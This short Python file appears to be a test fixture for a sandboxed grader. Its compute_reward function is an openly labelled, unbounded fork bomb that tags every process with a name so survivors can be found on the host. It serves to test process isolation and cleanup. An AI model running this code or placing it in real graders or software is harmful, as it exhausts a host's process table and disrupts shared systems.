"""A fork bomb with no bound of its own: children that fork too, until fork fails.

The completion is a tag (at most 15 bytes) every process sets as its name, so the test
can find survivors anywhere on the host. Returns how many forks the first process made.
"""
import ctypes
import os
import time


def compute_reward(completion, ground_truth):
    libc = ctypes.CDLL(None)
    forked = 0
    while forked < 5000:
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            libc.prctl(15, completion.encode()[:15], 0, 0, 0)  # PR_SET_NAME
            try:
                while True:  # every child forks as well, then waits
                    if os.fork() == 0:
                        libc.prctl(15, completion.encode()[:15], 0, 0, 0)
                        time.sleep(60)
                        os._exit(0)
            except OSError:
                time.sleep(60)
            os._exit(0)
        forked += 1
    return float(forked)
